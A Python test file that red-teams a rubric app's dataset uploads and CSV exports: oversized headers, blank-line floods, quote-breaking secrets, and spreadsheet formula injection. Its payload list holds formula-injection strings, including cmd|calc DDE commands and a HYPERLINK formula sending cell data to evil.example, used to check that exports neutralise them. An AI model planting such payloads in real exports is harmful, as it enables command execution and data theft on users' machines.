"""Red-team attacks through uploads and exports: datasets built to exhaust the app, to be
stored corrupt, or to run as formulas in the spreadsheet that opens an export.

Each is judged by its effect: time and memory spent refusing a file, a stored dataset that
loads back exactly, cells a spreadsheet would execute.
"""

from __future__ import annotations

import csv
import io
import json
import time
import tracemalloc
import uuid
from typing import TYPE_CHECKING

import pytest

from rubric_core.datasets import (
    MAX_DATASET_COLUMNS,
    DatasetError,
    parse_dataset,
)
from rubric_core.export import FORMULA_PREFIXES, export_rows, restore_cell, write_csv
from rubric_core.redact import REDACTED
from rubric_core.settings import RunSettings
from rubric_core.store import Store

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store(tmp_path / "db.sqlite3") as opened:
        yield opened


def _refused_within(data: bytes, seconds: float, match: str) -> float:
    started = time.perf_counter()
    with pytest.raises(DatasetError, match=match):
        parse_dataset(data)
    elapsed = time.perf_counter() - started
    assert elapsed < seconds, elapsed
    return elapsed


# --------------------------------------------------------------------------- exhausting the app


def test_a_header_of_fifty_thousand_columns_is_refused_at_once() -> None:
    # Duplicate detection was quadratic: 20,000 columns took 13 s, a 20 MB header days.
    header = ",".join(f"c{i}" for i in range(50_000)) + ",prompt\n"
    _refused_within((header + "hi\n").encode(), 2.0, "50,001 columns; the limit is 200")


def test_a_json_line_of_fifty_thousand_keys_is_refused_at_once() -> None:
    line = json.dumps({**{f"c{i}": "" for i in range(50_000)}, "prompt": "hi"})
    _refused_within(line.encode(), 2.0, "columns; the limit is 200")


def test_megabytes_of_blank_lines_do_not_become_millions_of_rows_in_memory() -> None:
    # Every blank line became a row of empty cells before the row limit was checked:
    # 5 MB of newlines held 1.6 GB.
    data = b"prompt,a,b,c\n" + b"\n" * (5 * 1024 * 1024)
    tracemalloc.start()
    try:
        _refused_within(data, 20.0, "5,242,880 rows; the limit is 10,000")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 64 * 1024 * 1024, peak


def test_the_column_limit_is_the_documented_one() -> None:
    ok = ",".join(f"c{i}" for i in range(MAX_DATASET_COLUMNS - 1)) + ",prompt\n"
    assert parse_dataset(ok + "x," * (MAX_DATASET_COLUMNS - 1) + "hi\n").rows


@pytest.mark.parametrize(
    ("data", "match"),
    [
        pytest.param("prompt\nhi\n".encode("utf-16"), "not UTF-8", id="utf16_with_bom"),
        pytest.param(b"prompt,x\n" + b"a," + b"y" * 200_000 + b"\n",
                     "row 2, column 'x': 200,000 characters; the limit for a cell is 100,000",
                     id="enormous_field"),
        pytest.param(b'{"prompt": {"nested": "x"}}\n', "nested JSON", id="nested_json"),
    ],
)
def test_malformed_uploads_are_refused_with_a_reason(data: bytes, match: str) -> None:
    with pytest.raises(DatasetError, match=match):
        parse_dataset(data)


# --------------------------------------------------------------------------- stored corrupt


@pytest.mark.parametrize(
    "cell",
    [
        pytest.param('api_key=abcdef1" and more', id="assignment_before_a_quote"),
        pytest.param('see http://h/?key=zz9" end', id="url_query_before_a_quote"),
        pytest.param('Bearer abcdefgh\\" x', id="bearer_before_a_backslash"),
        pytest.param("nul \x00 and \ud800 surrogate", id="unstorable_characters"),
    ],
)
def test_an_uploaded_dataset_is_stored_so_that_it_loads_back(store: Store, cell: str) -> None:
    # Secrets were scrubbed from the stored JSONL text: a replacement that swallowed the
    # backslash escaping a quote left a line that no longer parsed, and the dataset could
    # never be loaded again.
    text = json.dumps({"prompt": "Say hi", "note": cell}) + "\n"
    dataset = parse_dataset(text, name="upload")
    store.save_dataset(dataset)
    loaded, version = store.load_dataset("upload")
    assert version == 1
    assert loaded.rows[0].prompt == "Say hi"
    note = loaded.rows[0].variables["note"]
    assert "\x00" not in note and "\ud800" not in note
    assert note.split()[0] == cell.split()[0] or REDACTED in note


def test_a_secret_holding_a_quote_is_scrubbed_from_a_stored_dataset(
    store: Store, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = 'pw"' + uuid.uuid4().hex[:10] + "\\x"
    monkeypatch.setenv("RED_TEAM_PASSWORD", secret)
    dataset = parse_dataset(json.dumps({"prompt": f"use {secret}", "v": secret}) + "\n",
                            name="q")
    store.save_dataset(dataset)
    loaded, _ = store.load_dataset("q")
    assert loaded.rows[0].prompt == f"use {REDACTED}"
    raw = (tmp_path / "db.sqlite3").read_bytes()
    assert json.dumps(secret)[1:-1].encode() not in raw and secret.encode() not in raw


# --------------------------------------------------------------------------- formulas in exports


PAYLOADS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1, \"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "'=already quoted",
]


def test_no_exported_cell_starts_a_formula(store: Store, tmp_path: Path) -> None:
    payload = "\n".join(PAYLOADS)
    record = store.create_run(RunSettings(prompt=PAYLOADS[0], rubric="- " + PAYLOADS[1],
                                          title=PAYLOADS[2]))
    criteria = [{"name": p, "passed": False, "gap": p} for p in PAYLOADS]
    evaluation = {"grading_run_id": PAYLOADS[3], "iteration": 0, "result": "needs_revision",
                  "status": "needs_revision", "explanation": PAYLOADS[4],
                  "criteria": criteria, "answer": PAYLOADS[5] + payload}
    store.add_evaluation(record.run_id, evaluation)  # type: ignore[arg-type]
    stored = store.get_run(record.run_id)
    assert stored is not None
    out = io.StringIO(newline="")
    write_csv(export_rows([(stored, store.evaluations(record.run_id))]), out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    cells = [cell for row in rows[1:] for cell in row]
    risky = [cell for cell in cells if cell.startswith(FORMULA_PREFIXES)]
    assert risky == [], risky
    # The escape is exactly reversible: every payload comes back as written.
    restored = {restore_cell(cell) for cell in cells}
    assert set(PAYLOADS) <= restored
